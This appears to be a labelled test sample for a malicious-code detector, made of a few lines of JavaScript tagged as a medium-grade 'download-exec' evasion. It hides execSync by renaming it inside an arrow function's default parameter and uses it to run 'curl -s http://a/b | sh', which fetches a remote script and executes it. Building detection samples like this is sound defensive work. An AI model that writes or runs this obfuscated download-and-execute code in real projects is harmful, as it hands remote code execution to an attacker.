// evasion: child_process's execSync destructured from an arrow function's default parameter under another name, the function called with no argument
// grade: medium; does: download-exec
const run = ({ execSync: x } = require('child_process')) => x('curl -s http://a/b | sh');
run();
